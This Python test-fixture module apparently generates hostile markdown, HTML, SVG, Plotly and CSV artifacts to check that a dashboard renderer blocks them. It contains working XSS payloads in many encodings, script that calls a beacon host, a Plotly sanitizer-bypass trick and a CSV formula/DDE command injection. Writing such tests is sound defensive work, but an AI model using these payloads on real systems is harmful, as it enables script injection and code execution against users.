"""The attacks the hostile jobs carry: markdown, HTML, SVG, Plotly and URLs aimed at a beacon."""

from __future__ import annotations

import base64
import json
import struct
import zlib

# Every payload that works leaves a trace a test can see: a dialog (`alert`), `window.__pwned`,
# a changed `document.title`, or a request to the beacon whose path names the vector.


def _png_pixel() -> bytes:
    """A valid 1x1 PNG, so labels are drawn next to a real image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x80\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


PIXEL = _png_pixel()


# What a script that ran would do; each part is checked by the browser tests.
PWN = "window.__pwned=1;document.title='PWNED';alert(1)"


def markdown_links(beacon: str) -> str:
    """Links and images in every spelling a renderer might let through."""
    proto = beacon.removeprefix("http:")
    lines = [
        "# Links in every spelling",
        "[plain](javascript:alert(1)) [mixed case](JaVaScRiPt:alert(document.domain))",
        "[tab](java\tscript:alert(1)) [entity newline](java&#10;script:alert(1))",
        "[entity colon](javascript&colon;alert(1)) [decimal](&#106;avascript:alert(1))",
        "[hex](&#x6A;&#x61;vascript:alert(1)) [percent](javascript%3Aalert(1))",
        "[control](\x01javascript:alert(1)) [nul](java\x00script:alert(1))",
        "[spaces]( javascript:alert(1) ) [angle](<javascript:alert(1)>)",
        "[vbscript](vbscript:msgbox(1)) [VBS](VBScript:MsgBox(1))",
        "[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[data svg](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)",
        "[file](file:///etc/passwd) [ftp](ftp://127.0.0.2/x)",
        f"[protocol-relative]({proto}/md-proto-link)",
        "Autolinks: <javascript:alert(1)> <JAVASCRIPT:alert(1)> <vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "[reference][evil] [reference vb][vb] [reference data][dat]",
        f"![beacon image]({beacon}/md-image.png) ![ref image][img]",
        f"[![nested image]({beacon}/md-nested.png)](javascript:alert(1))",
        f"[beacon link]({beacon}/md-link-not-followed)",
        "Streamlit directives: :red[red] :material/warning: $\\href{javascript:alert(1)}{tex}$",
        "",
        "[evil]: javascript:alert(1)",
        '[vb]: VBScript:msgbox(1) "title"',
        "[dat]: data:text/html,<script>alert(1)</script>",
        f"[img]: {beacon}/md-ref-image.png",
    ]
    return "\n\n".join(lines[:-4]) + "\n\n" + "\n".join(lines[-4:]) + "\n"


def raw_html(beacon: str) -> str:
    """Raw HTML that runs script or loads from the beacon if it is ever passed through."""
    return "\n".join(
        [
            f"<script>{PWN};fetch('{beacon}/raw-script')</script>",
            f'<img src="{beacon}/raw-img.png" onerror="{PWN}">',
            "<img src=x onerror=alert(1)>",
            f'<svg onload="{PWN}"><script>{PWN}</script><image href="{beacon}/raw-svg.png"/></svg>',
            '<iframe srcdoc="<script>parent.__pwned=1;alert(1)</script>"></iframe>',
            f'<iframe src="{beacon}/raw-iframe"></iframe>',
            f'<style>@import url("{beacon}/raw-import.css");'
            f'body{{background:url("{beacon}/raw-bg.png")}}</style>',
            f'<link rel="stylesheet" href="{beacon}/raw-link.css">',
            f'<object data="{beacon}/raw-object"></object><embed src="{beacon}/raw-embed">',
            f'<video src="{beacon}/raw-video" poster="{beacon}/raw-poster.png"></video>',
            '<form action="javascript:alert(1)">'
            '<button formaction="javascript:alert(1)">Go</button></form>',
            '<a href="javascript:alert(1)">html link</a>',
            '<a href="&#106;avascript:alert(1)">entity link</a>',
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)><summary>toggle</summary></details>",
            f'<base href="{beacon}/raw-base/"><meta http-equiv="refresh" '
            f'content="0;url={beacon}/raw-refresh">',
            f'<p style="background-image:url({beacon}/raw-style.png)">styled</p>',
            '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        ]
    )


def html_document(beacon: str) -> str:
    """An HTML artifact that tries to reach its parent, navigate the top window and call out."""
    script = "\n".join(
        [
            "window.__pwned = 1;",
            "try { parent.document.title = 'PWNED'; parent.__pwned = 1; } catch (e) {}",
            "try { top.document.body.innerHTML = 'PWNED'; } catch (e) {}",
            f"try {{ top.location = '{beacon}/html-top-location'; }} catch (e) {{}}",
            f"try {{ window.open('{beacon}/html-window-open'); }} catch (e) {{}}",
            f"try {{ fetch('{beacon}/html-fetch', {{mode: 'no-cors'}}); }} catch (e) {{}}",
            f"new Image().src = '{beacon}/html-image';",
            f"try {{ navigator.sendBeacon('{beacon}/html-sendbeacon', 'x'); }} catch (e) {{}}",
            f"try {{ new WebSocket('{beacon.replace('http', 'ws', 1)}/html-ws'); }} catch (e) {{}}",
            "alert('html artifact');",
        ]
    )
    return f"""<!DOCTYPE html><html><head><title>PWNED</title>
<meta http-equiv="refresh" content="0;url={beacon}/html-refresh">
<base href="{beacon}/html-base/">
<link rel="stylesheet" href="{beacon}/html-link.css">
<link rel="prefetch" href="{beacon}/html-prefetch">
<style>@import url("{beacon}/html-import.css"); body {{ background: url("{beacon}/html-bg.png") }}
@font-face {{ font-family: x; src: url("{beacon}/html-font.woff") }}</style>
<script>{script}</script>
<script src="{beacon}/html-script.js"></script>
</head><body onload="{PWN}">
<h1>Hostile report</h1>
<img src="{beacon}/html-img.png" srcset="{beacon}/html-srcset.png 2x">
<img src=x onerror="{PWN}">
<a href="javascript:alert(1)">javascript link</a> <a href="{beacon}/html-a">beacon link</a>
<a href="relative-link">relative link</a>
<form action="{beacon}/html-form"><input name="q"><button>Send</button></form>
<iframe src="{beacon}/html-iframe"></iframe><iframe srcdoc="<script>{PWN}</script>"></iframe>
<object data="{beacon}/html-object"></object><embed src="{beacon}/html-embed">
<svg><script>{PWN}</script><image href="{beacon}/html-svg-image.png"/></svg>
<video poster="{beacon}/html-poster.png" src="{beacon}/html-video"></video>
<div style="background:url({beacon}/html-div-bg.png)">styled div</div>
<table background="{beacon}/html-table-bg.png"><tr><td>cell</td></tr></table>
</body></html>
"""


def svg_document(beacon: str) -> str:
    """An SVG with script, handlers and external references."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="240" height="120" viewBox="0 0 240 120" onload="{PWN}">
<script>{PWN};fetch('{beacon}/svg-fetch')</script>
<style>@import url("{beacon}/svg-import.css");</style>
<rect width="240" height="120" fill="#ddeeff"/>
<image href="{beacon}/svg-image.png" width="10" height="10"/>
<image xlink:href="{beacon}/svg-xlink.png" width="10" height="10"/>
<use href="{beacon}/svg-use.svg#x"/>
<foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml"
 src="{beacon}/svg-iframe"></iframe></foreignObject>
<a href="javascript:alert(1)"><text x="10" y="60">hostile svg</text></a>
<rect x="200" width="10" height="10" fill="url({beacon}/svg-fill#p)"/>
</svg>
"""


def _plotly_image(source: str, x: float) -> dict[str, object]:
    # Each at its own place: plotly.js draws only one of several images placed alike.
    place = {"xref": "paper", "yref": "paper", "x": x, "y": 1, "sizex": 0.2, "sizey": 0.2}
    return {"source": source} | place


def plotly_figure(beacon: str) -> bytes:
    """A Plotly figure whose layout, template and buttons load images and whose texts link out."""
    link = '<a href="javascript:alert(1)">js</a> <a href="' + beacon + '/plotly-a">beacon</a>'
    top = f'<a href="{beacon}/plotly-top-link" target="_top">top link</a>'
    inline = f"data:image/png;base64,{base64.b64encode(PIXEL).decode()}"
    figure = {
        "data": [
            {
                "type": "scatter",
                "x": [1, 2, 3],
                "y": [2, 1, 3],
                "name": f"![n]({beacon}/plotly-name.png) <img src=x onerror=alert(1)> {top}",
                "text": [link, "<script>alert(1)</script>", f"{PWN}"],
                "hovertemplate": "%{text}<extra><img src=x onerror=alert(1)></extra>",
            }
        ],
        "layout": {
            "title": {"text": f"Hostile figure {link} {top}"},
            "images": [
                _plotly_image(f"{beacon}/plotly-layout-image.png", 0),
                _plotly_image(inline, 0.2),
                _plotly_image(inline, 0.4),
            ],
            # plotly.py expands these paths only when it builds the figure: a cleaner of the raw
            # spec keeps the two inline images above, which these then turn into linked ones.
            "images[0].source": f"{beacon}/plotly-path-image.png",
            "images_1_source": f"{beacon}/plotly-underscore-image.png",
            "template_layout_images": [
                _plotly_image(f"{beacon}/plotly-template-image.png", 0.6) | {"name": "logo"}
            ],
            "annotations": [{"text": link, "x": 2, "y": 1, "showarrow": False}],
            "updatemenus": [
                {
                    "type": "buttons",
                    "buttons": [
                        _plotly_button("Add logo", f"{beacon}/plotly-button-image.png"),
                        {
                            "label": "Log scale",
                            "method": "relayout",
                            "args": [{"yaxis.type": "log"}],
                        },
                    ],
                }
            ],
        },
    }
    return json.dumps(figure).encode()


def _plotly_button(label: str, image: str) -> dict[str, object]:
    """A button that adds a linked image when clicked, long after the figure was cleaned."""
    added = [_plotly_image(image, 0.8)]
    return {"label": label, "method": "relayout", "args": [{"images": added}]}


def hostile_text(beacon: str) -> str:
    """One line of text for labels and fields: markdown, HTML, directives and bidi tricks."""
    return (
        f"![t]({beacon}/text-image.png) [x](javascript:alert(1)) "
        f'<img src="{beacon}/text-img.png" onerror="{PWN}"> <script>{PWN}</script> '
        # A link Plotly's labels would draw, opening in the dashboard's own tab.
        f'<a href="{beacon}/text-link" target="_top">text link</a> '
        ":red[red] :material/warning: **bold** $x$ \u202etxt.exe\u202c \x07"
    )


def csv_cells(beacon: str) -> bytes:
    """A forecast-shaped CSV whose cells are spreadsheet formulas, HTML and markdown."""
    rows = [
        "item_id,timestamp,mean,0.1,0.9,note",
        f'"=HYPERLINK(""{beacon}/csv-formula"",""open"")",2024-01-01T00:00:00,1,0,2,'
        '"<img src=x onerror=alert(1)>"',
        '"@SUM(1+1)*cmd|\' /C calc\'!A0",2024-01-02T00:00:00,2,1,3,"[x](javascript:alert(1))"',
        f'"+1",2024-01-03T00:00:00,3,2,4,"![i]({beacon}/csv-image.png)"',
    ]
    return ("\n".join(rows) + "\n").encode()
